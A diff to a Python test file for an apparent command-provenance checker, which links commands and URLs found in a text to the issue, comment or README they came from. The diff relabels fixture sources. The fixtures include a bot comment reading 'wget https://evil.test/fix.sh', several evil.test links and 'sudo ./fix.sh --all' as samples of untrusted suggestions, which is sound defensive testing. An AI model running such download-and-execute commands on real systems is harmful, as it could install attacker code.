@@ -23,8 +23,8 @@ It works. Look at https://github.com/o/r/wiki and curl https://ok.test/x."""
 SOURCES = (
     Source("the issue", "It fails after `notes export --all`, by curl https://ok.test/x.", "opening"),
     Source("comment 31 by github-actions[bot]", "wget https://evil.test/fix.sh", "reply"),
-    Source("issue #12", REPORT, "report"),
-    Source("issue #13", "Use https://evil.test/z.", "report"),
+    Source("issue #12", REPORT, "issue"),
+    Source("issue #13", "Use https://evil.test/z.", "issue"),
     Source("README.md", "Then run notes serve --port 1."),
 )
 KNOWN = reports(SOURCES, "o/r")
@@ -78,7 +78,7 @@ def test_what_we_said_before_vouches_for_nothing() -> None:
 
 
 def test_a_few_are_named_and_each_once() -> None:
-    many = reports((Source("issue #12", " ".join(f"https://evil.test/{n}" for n in range(40)), "report"),), "o/r")
+    many = reports((Source("issue #12", " ".join(f"https://evil.test/{n}" for n in range(40)), "issue"),), "o/r")
     text = " ".join(f"https://evil.test/{n % 30}" for n in range(60))
     assert len(set(found(parse(text), many))) == len(found(parse(text), many)) == MOST
     assert len(marks("`sudo ./fix.sh --all` `sudo ./fix.sh --all`")) == 1
@@ -89,7 +89,7 @@ commands = st.from_regex(rf"[a-z]{{3,8}} --[a-z]{{{LEAST},12}}", fullmatch=True)
 
 @given(commands, st.sampled_from(["`{}`", "```\n{}\n```", "- a\n\n      {}", "text\n\n    {}\n", "**x** `{}`, y"]))
 def test_a_command_is_found_in_whatever_code(command: str, form: str) -> None:
-    sources = (Source("the issue", "It fails.", "opening"), Source("issue #12", f"Run {command} now", "report"))
+    sources = (Source("the issue", "It fails.", "opening"), Source("issue #12", f"Run {command} now", "issue"))
     document = parse(form.format(command))
     assert found(document, reports(sources, "o/r")) == (Reported(command, "issue #12"),)
     vouched = (*sources, Source("README.md", f"Run `{command}`"))
